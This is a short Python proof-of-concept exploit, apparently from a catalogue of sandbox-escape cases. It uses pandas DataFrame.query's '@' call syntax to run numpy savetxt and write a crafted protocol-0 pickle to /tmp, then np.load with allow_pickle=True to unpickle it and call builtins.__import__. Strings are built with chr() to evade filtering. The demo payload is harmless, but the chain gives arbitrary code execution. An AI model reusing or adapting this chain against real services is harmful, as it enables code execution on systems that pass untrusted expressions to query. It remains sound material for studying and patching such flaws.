# source: pandas 1.5.3 expr.py BaseExprVisitor.visit_Call (calls any @name value) + numpy/lib/npyio.py load() falling back to pickle.load when allow_pickle; pickle protocol-0 GLOBAL opcode
# family: DataFrame.query "(@f)(...)" calls imported numpy savetxt/load with run-time path and allow_pickle by position -> unpickling arbitrary globals
# goal: write a protocol-0 pickle to /tmp with np.savetxt, load it with np.load(allow_pickle=True): builtins.__import__("this") runs
import pandas as pd
import numpy as np
from numpy import savetxt, load
df = pd.DataFrame({"a": [1, 2, 3]})
u = chr(95) * 2
p = chr(47) + "tmp" + chr(47) + "z"
rows = np.array(["c" + "built" + "ins", u + "import" + u, "(Vthis", "tR."])
fmt = chr(37) + "s"
none = None


def show(x):
    print("loaded:", x)
    return 0


print(df.query("a > (@show)((@savetxt)(@p, @rows, @fmt))"))
print(df.query("a > (@show)((@load)(@p, @none, True))"))
